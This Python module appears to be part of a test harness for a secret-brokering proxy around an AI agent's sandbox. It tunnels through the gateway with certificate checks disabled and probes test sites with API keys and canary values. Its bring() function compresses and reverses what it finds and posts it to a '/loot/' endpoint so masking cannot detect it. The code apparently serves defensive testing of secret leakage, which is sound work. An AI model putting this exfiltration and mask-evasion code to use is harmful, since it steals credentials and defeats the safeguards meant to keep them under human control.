"""How the agent gets out, and where it brings what it finds."""

import json
import os
import socket
import ssl
import threading
import urllib.parse
import zlib

HOST = "host.vm0.internal"
PORTS = json.loads(os.environ["CANARY_PORTS"])
# The value of a secret that is exposed: wherever it comes through, a brokered one would.
CONTROL = os.environ["CONTROL"]
PROXY = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
# What is to come through is waited for however slow the machine is; what may never come, is not.
PATIENT, IMPATIENT = 60, 3
PATIENCE = threading.local()
READ_MAX = 1 << 20

# What a client of each site sends; the gateway makes values of the placeholders.
PLACES = {
    "A": ["Authorization: Bearer " + os.environ["BEARER"], "X-Canary: " + os.environ["HEADER"]],
    "B": ["X-Long: " + os.environ["LONG"]],
    "C": [],
    "D": ["Authorization: Bearer " + os.environ["OPENAI_API_KEY"]],
    "E": ["Authorization: Basic eA=="],
    "P": ["x-api-key: " + os.environ["ANTHROPIC_API_KEY"]],
}
PLACEHOLDERS = {
    name: os.environ[name]
    for name in ("BEARER", "HEADER", "QUERY", "LONG", "PAIR", "WORD", "OPENAI_API_KEY",
                 "ANTHROPIC_API_KEY")
}

TECHNIQUES = []


def technique(name, kind):
    """Names a way to a secret. `echo`: what it brings has the control; `refused`: nothing gets
    through; `look`: whatever there is."""
    def keep(function):
        TECHNIQUES.append((name, kind, function))
        return function
    return keep


def add(name, kind, function, *arguments):
    TECHNIQUES.append((name, kind, lambda: function(*arguments)))


def proxy():
    return socket.create_connection((PROXY.hostname, PROXY.port), PATIENCE.seconds)


def read_head(sock):
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        byte = sock.recv(1)
        if not byte:
            break
        head += byte
    return head


def read_all(sock):
    """Everything until the other side closes or falls silent."""
    read = b""
    try:
        while len(read) < READ_MAX:
            piece = sock.recv(65536)
            if not piece:
                break
            read += piece
    except OSError as error:
        read += f"\n[{error}]".encode()
    return read


def connect(authority):
    """A tunnel to `authority`; what the gateway said if there is none."""
    sock = proxy()
    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    head = read_head(sock)
    if b" 200 " not in head.split(b"\r\n")[0] + b" ":
        rest = read_all(sock)
        sock.close()
        raise Refused(head + rest)
    return sock


class Refused(Exception):
    def __init__(self, answer):
        super().__init__(answer[:80])
        self.answer = answer


def tls(sock, name=HOST, alpn=("http/1.1",)):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    return context.wrap_socket(sock, server_hostname=name)


def site(name):
    return f"{HOST}:{PORTS[name]}"


def open_site(name):
    if name == "P":
        return connect(site(name))
    return tls(connect(site(name)))


def headers(name, *more):
    lines = [f"Host: {site(name)}", *PLACES.get(name, []), f"X-Control: {CONTROL}", *more]
    return "\r\n".join(lines)


def exchange(name, raw):
    """Sends bytes to a site as they are and reads all that comes back."""
    sock = open_site(name)
    try:
        sock.sendall(raw if isinstance(raw, bytes) else raw.encode())
        return read_all(sock)
    finally:
        sock.close()


def without_chunks(answer):
    """The body of an answer in chunks, joined: what a value is cut into hides it from no client."""
    head, _, rest = answer.partition(b"\r\n\r\n")
    joined = b""
    while b"chunked" in head.lower() and b"\r\n" in rest:
        size, _, rest = rest.partition(b"\r\n")
        try:
            count = int(size, 16)
        except ValueError:
            break
        joined, rest = joined + rest[:count], rest[count + 2:]
    return joined


def get(name, path, *more):
    answer = exchange(name, f"GET {path} HTTP/1.1\r\n{headers(name, *more)}\r\nConnection: close\r\n\r\n")
    return answer + b"\n" + without_chunks(answer)


def bring(kind, name, found):
    """Takes what was found to the agent's own server, in a form that no mask can see."""
    hidden = zlib.compress(found)[::-1]
    path = "/loot/" + kind + "/" + urllib.parse.quote(name, safe="")
    sock = tls(connect(site("X")))
    try:
        sock.sendall(f"POST {path} HTTP/1.1\r\nHost: {site('X')}\r\nConnection: close\r\n"
                     f"Content-Length: {len(hidden)}\r\n\r\n".encode() + hidden)
        if b" 200 " not in read_head(sock)[:20]:
            raise RuntimeError("the loot was not taken")
    finally:
        sock.close()
